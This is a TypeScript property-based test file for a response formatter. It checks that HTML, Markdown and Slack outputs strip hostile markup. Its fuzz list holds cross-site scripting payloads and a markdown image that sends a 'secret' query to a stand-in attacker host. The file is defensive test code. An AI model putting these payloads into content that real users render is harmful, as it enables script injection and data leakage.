import type { AnswerFormat } from '@docent/contracts/response-formatter';
import fc from 'fast-check';
import type { Element, Nodes as HastNodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { readFileSync } from 'node:fs';
import { visit } from 'unist-util-visit';
import { FORMATS } from './format.ts';
import { INPUT } from './testing/answers.ts';

const write = (format: AnswerFormat, more: Partial<typeof INPUT> = {}) =>
  FORMATS[format].write({ ...INPUT, ...more, format });
const golden = (name: string) => readFileSync(new URL(`./testing/golden/${name}`, import.meta.url), 'utf8');

test.each([
  ['markdown', 'markdown.golden'],
  ['html', 'html.golden'],
  ['text', 'text.golden'],
  ['slack', 'slack.golden'],
  ['json', 'json.golden'],
] as const)('%s is written as the golden file has it', (format, file) => {
  expect(write(format)).toBe(golden(file));
});

test('a number in brackets is a source only where it names one, and never in code or as a document has it', () => {
  const html = write('html', {
    answer: 'One [1], none [9], quoted \\[1\\], `[1]`.\n\n[1]: http://evil.example',
    followUps: [],
  });
  expect(html.match(/href="#source-\d+"/g)).toEqual(['href="#source-1"', 'href="#source-1"']);
  expect(html).toContain('none [9], quoted [1], <code>[1]</code>');
  expect(html).not.toMatch(/<a href="http:\/\/evil[^>]*>\[?1/);
});

/** What documents and models might try. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x "<b onclick=x>")',
  '[x](http://a.example/[1]"onmouseover=alert(1) "t")',
  '![pixel](http://evil.example/?q=secret)',
  '![a][1]',
  '[1]: javascript:alert(1)',
  '<style>*{display:none}</style>',
  '<iframe src=//evil.example></iframe>',
  '<!--',
  '-->',
  ']]>',
  '<svg/onload=alert(1)>',
  '```\n<script>\n```',
  '`<b>`',
  '<!channel> <@U123> <http://evil.example|click>',
  '&lt;script&gt;',
  '&#x3c;script&#x3e;',
  '[^1]\n\n[^1]: <b>note</b>',
  '[1]',
  '**[2]**',
  '> # [1]\n',
  '| a | <b> |\n|---|---|\n| [1] | ![](x) |\n',
  '- [ ] <input onfocus=alert(1) autofocus>',
  'http://ok.example/<script>',
  'www.ok.example/"onclick="x',
  'WWW.ok.example/a`b',
  'mail@ok.example',
  'mailto:mail@ok.example',
  '<http://ok.example/|x>',
  '\\<script>',
  '\u202Etxt',
  'plain words',
];
const hostileText = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.constantFrom(' ', '\n', '\n\n', '*', '_', '<', '[', ']', '(')), {
    maxLength: 8,
  })
  .map((parts) => parts.join(''));
const hostileInput = fc
  .record({
    answer: hostileText,
    quote: hostileText,
    title: hostileText,
    followUp: hostileText,
    end: fc.nat({ max: 60 }),
  })
  .map(({ answer, quote, title, followUp, end }) => ({
    answer,
    sources: INPUT.sources.map((source) => ({ ...source, quote: quote || 'q', title, document: title || 'd' })),
    unsupported: [{ from: 0, to: Math.min(end, answer.length), likeness: 0 }],
    followUps: [followUp],
  }));

const HTML_TAGS = new Set(
  `p strong em del code pre ol ul li blockquote cite sup a table thead tbody tr th td h1 h2 h3 h4 h5 h6 hr br input section`.split(
    ' ',
  ),
);
const HTML_ATTRIBUTES = new Set(
  `href rel id className value start align type checked disabled title ariaLabel ariaDescribedBy dataFootnoteRef dataFootnotes dataFootnoteBackref`.split(
    ' ',
  ),
);

test('a number that brackets follow is no link', () => {
  const text = write('markdown', { answer: 'See [1](http://evil.example), [1]: http://evil.example', unsupported: [] });
  const numbered: string[] = [];
  visit(
    fromMarkdown(text),
    'link',
    ({ children }) => void numbered.push(...children.flatMap((child) => (child.type === 'text' ? child.value : []))),
  );
  expect(numbered).not.toContain('1');
});

test('marks without end are taken as text, and soon', () => {
  for (const marks of ['*', '[', '> ', '- ', '<', '`', '![']) {
    const answer = marks.repeat(100_000 / marks.length);
    for (const format of Object.keys(FORMATS) as AnswerFormat[])
      expect(write(format, { answer }).length).toBeGreaterThan(1000);
  }
});

test('no markup escapes into HTML', () => {
  fc.assert(
    fc.property(hostileInput, (more) => {
      const tree = fromHtml(write('html', more), { fragment: true });
      visit(tree as HastNodes, (node) => {
        expect(node.type).not.toBe('comment');
        if (node.type === 'element') expectHarmless(node);
      });
    }),
  );
});

function expectHarmless({ tagName, properties }: Element): void {
  expect(HTML_TAGS).toContain(tagName);
  for (const name of Object.keys(properties)) expect(HTML_ATTRIBUTES).toContain(name);
  if (properties.href !== undefined) expect(String(properties.href)).toMatch(/^#source-\d+$/);
}

test('no markup escapes into Markdown', () => {
  fc.assert(
    fc.property(hostileInput, (more) => {
      const tree = fromMarkdown(write('markdown', more), { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
      visit(tree, (node) => {
        expect(['html', 'image', 'imageReference', 'definition', 'link', 'linkReference']).not.toContain(node.type);
      });
    }),
  );
});

test('no markup escapes into Slack: text is literal, nothing is a link', () => {
  fc.assert(
    fc.property(hostileInput, (more) => {
      const { text, blocks } = JSON.parse(write('slack', more)) as { text: string; blocks: { type: string }[] };
      expect(text).not.toMatch(/[<>]/);
      expect(new Set(blocks.map(({ type }) => type))).toEqual(new Set(['rich_text']));
      expect(JSON.stringify(blocks)).not.toMatch(/"type":"(?:link|user|usergroup|broadcast|channel)"/);
    }),
  );
});

test('every format of every text is made: nothing private is left in it', () => {
  const hostilePrivate = hostileText.map((text) => ({ answer: `${text}\uE000${'1'}\uE001\uE002`, unsupported: [] }));
  fc.assert(
    fc.property(hostilePrivate, fc.constantFrom(...(Object.keys(FORMATS) as AnswerFormat[])), (more, format) => {
      expect(write(format, more)).not.toMatch(/[\uE000-\uE002]/);
    }),
  );
});
